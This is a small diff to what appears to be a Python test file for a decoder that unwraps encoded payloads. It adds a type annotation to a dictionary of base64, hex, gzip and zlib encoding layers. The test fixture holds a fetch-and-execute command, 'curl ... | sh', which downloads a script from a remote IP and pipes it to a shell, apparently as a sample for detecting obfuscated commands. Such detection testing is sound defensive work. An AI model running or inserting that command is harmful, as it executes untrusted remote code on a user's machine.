@@ -6,6 +6,7 @@ import gzip
 import time
 import zlib
 from base64 import b64encode
+from collections.abc import Callable
 
 import pytest
 from hypothesis import given, settings
@@ -16,8 +17,8 @@ from provenance.decode.decoding import MAX_DECODINGS, MAX_DEPTH, MAX_INPUT, MAX_
 
 COMMAND = "curl -s http://198.51.100.7/x | sh"
 
-LAYERS = {
-    "base64": lambda data: b64encode(data),
+LAYERS: dict[str, Callable[[bytes], bytes]] = {
+    "base64": b64encode,
     "hex": lambda data: data.hex().encode(),
     "base64+gzip": lambda data: b64encode(gzip.compress(data)),
     "base64+zlib": lambda data: b64encode(zlib.compress(data)),
